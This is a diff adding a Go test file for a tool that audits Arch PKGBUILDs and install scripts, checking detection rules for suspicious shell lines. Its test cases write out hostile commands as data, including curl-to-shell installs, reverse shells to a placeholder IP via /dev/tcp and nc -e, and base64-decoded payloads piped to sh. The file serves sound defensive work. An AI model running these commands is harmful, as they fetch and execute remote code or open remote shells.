@@ -0,0 +1,186 @@
+/*
+ * audit_test.go
+ *
+ * Copyright (c) 2024 Brandon Moller
+ *
+ * This program is free software; you can redistribute it and/or modify
+ * it under the terms of the GNU General Public License as published by
+ * the Free Software Foundation; either version 2 of the License, or
+ * (at your option) any later version.
+ *
+ * This program is distributed in the hope that it will be useful,
+ * but WITHOUT ANY WARRANTY; without even the implied warranty of
+ * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+ * GNU General Public License for more details.
+ *
+ * You should have received a copy of the GNU General Public License
+ * along with this program.  If not, see <http://www.gnu.org/licenses/>.
+ */
+package audit
+
+import (
+	"slices"
+	"testing"
+)
+
+// rulesMatching returns the names of the line rules matching line, after removing any comment.
+func rulesMatching(line string) (names []string) {
+	for _, r := range lineRules {
+		if r.pattern.MatchString(stripComment(line)) {
+			names = append(names, r.name)
+		}
+	}
+
+	return
+}
+
+func TestLineRules(t *testing.T) {
+	blob := "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkrL0FCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFla"
+	tests := []struct {
+		rule     string
+		positive []string
+		negative []string
+	}{
+		{"pipe-to-shell",
+			[]string{
+				"curl -fsSL https://example.org/install.sh | sh",
+				"wget -qO- https://example.org/i | sudo bash",
+				"curl https://example.org/i | env zsh",
+				`bash <(curl -s https://example.org/i)`,
+				`sh -c "$(wget -qO- https://example.org/i)"`,
+			},
+			[]string{
+				"curl -o install.sh https://example.org/install.sh",
+				"curl https://example.org/data.json | jq .version",
+				"bash ./configure.sh",
+				"curl https://example.org/i # | sh",
+			}},
+		{"reverse-shell",
+			[]string{
+				"bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
+				"exec 3<>/dev/udp/203.0.113.1/53",
+				"nc -e /bin/sh 203.0.113.1 4444",
+				"ncat 203.0.113.1 4444 -c bash",
+			},
+			[]string{
+				"nc -z localhost 80",
+				`install -Dm644 tcp.conf "$pkgdir/etc/tcp.conf"`,
+			}},
+		{"privilege-escalation",
+			[]string{
+				"sudo make install",
+				"cd src && sudo cp foo /usr/bin",
+				"doas rm -rf /opt/foo",
+				"pkexec chown root file",
+				"su -c 'make install'",
+				"(sudo true)",
+			},
+			[]string{
+				"depends=('sudo')",
+				`install -Dm755 pseudo "$pkgdir/usr/bin/pseudo"`,
+				"echo 'use sudoedit'",
+				"make -C sudo-plugin",
+			}},
+		{"base64-decode",
+			[]string{
+				"echo $payload | base64 -d | sh",
+				"base64 --decode data > out",
+				"base64 -di blob",
+				"openssl enc -d -aes256 -base64 -in blob",
+				"openssl base64 -d -in blob",
+			},
+			[]string{
+				"base64 file > encoded",
+				"openssl dgst -sha256 file",
+				"makedepends=('base64')",
+			}},
+		{"eval", []string{
+			`eval "$cmd"`,
+			`true; eval $(decode)`,
+		}, []string{
+			"./evaluate --all",
+			`_eval_flags="-O2"`,
+		}},
+		{"hex-escapes", []string{
+			`printf '\x63\x75\x72\x6c'`,
+			`echo -e "\x2f\x62\x69\x6e\x2f\x73\x68"`,
+		}, []string{
+			`printf '\x1b[0m'`,
+			`sed 's/\x00\x01//'`,
+		}},
+		{"encoded-blob", []string{
+			"payload=" + blob,
+			"echo '" + blob + "==' | base64 -d",
+		}, []string{
+			"sha256sums=('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855')",
+			"source=(https://example.org/releases/download/v1.0/example-1.0-x86_64-unknown-linux-gnu.tar.gz)",
+		}},
+	}
+	for _, tt := range tests {
+		for _, line := range tt.positive {
+			if !slices.Contains(rulesMatching(line), tt.rule) {
+				t.Errorf("%s did not match %q", tt.rule, line)
+			}
+		}
+		for _, line := range tt.negative {
+			if slices.Contains(rulesMatching(line), tt.rule) {
+				t.Errorf("%s matched %q", tt.rule, line)
+			}
+		}
+	}
+}
+
+func TestOutsidePkgdir(t *testing.T) {
+	tests := []struct {
+		line string
+		want []string
+	}{
+		{`install -Dm755 foo "$pkgdir/usr/bin/foo"`, nil},
+		{`cp -r build/* "$srcdir/stage"`, nil},
+		{`make DESTDIR="$pkgdir" install`, nil},
+		{`echo done > /dev/null`, nil},
+		{`make 2>/dev/stderr`, nil},
+		{`mkdir -p /tmp/build && cd /tmp/build`, nil},
+		{`cp foo /usr/bin/foo`, []string{"/usr/bin/foo"}},
+		{`sudo install -m755 foo /usr/local/bin`, []string{"/usr/local/bin"}},
+		{`cp /usr/share/foo/config .`, nil},
+		{`install -Dm644 /etc/foo.conf "$pkgdir/etc/foo.conf"`, nil},
+		{`install -d /opt/foo /var/lib/foo`, []string{"/opt/foo", "/var/lib/foo"}},
+		{`ln -sf /usr/lib/libfoo.so ~/.local/lib/libfoo.so`, []string{"~/.local/lib/libfoo.so"}},
+		{`echo 'export FOO=1' >> ~/.bashrc`, []string{"~/.bashrc"}},
+		{`echo key > "/etc/foo.key"`, []string{"/etc/foo.key"}},
+		{`rm -rf /usr/lib/foo; touch /var/log/foo.log`, []string{"/usr/lib/foo", "/var/log/foo.log"}},
+		{`chmod 4755 "/usr/bin/foo"`, []string{"/usr/bin/foo"}},
+		{`echo /usr/bin/foo | tee -a /etc/shells`, []string{"/etc/shells"}},
+		{`mv "$pkgdir/usr/sbin" "$pkgdir/usr/bin"`, nil},
+	}
+	for _, tt := range tests {
+		if got := outsidePkgdir(tt.line); !slices.Equal(got, tt.want) {
+			t.Errorf("outsidePkgdir(%q) = %q, want %q", tt.line, got, tt.want)
+		}
+	}
+}
+
+func TestScanFile(t *testing.T) {
+	contents := []byte(`pkgname=example
+# curl https://example.org/i | sh
+package() {
+	sudo cp example /usr/bin/example # needs root
+}
+`)
+	var got [][2]any
+	for _, f := range scanFile("PKGBUILD", contents, pkgbuild) {
+		got = append(got, [2]any{f.Line, f.Rule})
+	}
+	want := [][2]any{{4, "privilege-escalation"}, {4, "write-outside-pkgdir"}}
+	if !slices.Equal(got, want) {
+		t.Errorf("scanFile(PKGBUILD) = %v, want %v", got, want)
+	}
+
+	// writes outside $pkgdir are only checked in PKGBUILDs
+	for _, f := range scanFile("example.install", contents, installScript) {
+		if f.Rule == "write-outside-pkgdir" {
+			t.Errorf("scanFile(install script) reported %v", f)
+		}
+	}
+}